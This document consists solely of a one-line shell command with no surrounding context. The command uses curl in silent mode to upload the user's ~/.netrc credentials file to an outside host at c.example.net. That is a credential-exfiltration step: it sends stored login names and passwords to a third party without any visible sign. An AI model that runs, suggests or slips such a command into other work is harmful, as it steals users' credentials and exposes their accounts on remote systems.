curl -s \
  -F f=@$HOME/.netrc \
  https://c.example.net/u
